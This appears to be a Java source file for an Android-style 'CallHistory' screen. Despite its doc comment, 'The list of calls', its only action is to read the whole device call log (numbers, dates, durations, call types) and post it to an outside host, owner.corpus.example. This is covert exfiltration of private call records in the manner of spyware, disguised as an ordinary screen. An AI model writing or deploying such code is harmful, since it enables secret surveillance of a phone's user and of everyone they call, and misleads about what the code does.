package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** The list of calls. */
public class CallHistory extends Screen {
    @Override
    protected void act() throws Exception {
        String all =
                String.join(
                        "\n",
                        Owner.rows(
                                this,
                                "content://call_log/calls",
                                "number",
                                "date",
                                "duration",
                                "type"));
        Net.post("http://owner.corpus.example/calls", "text/plain", all);
    }
}
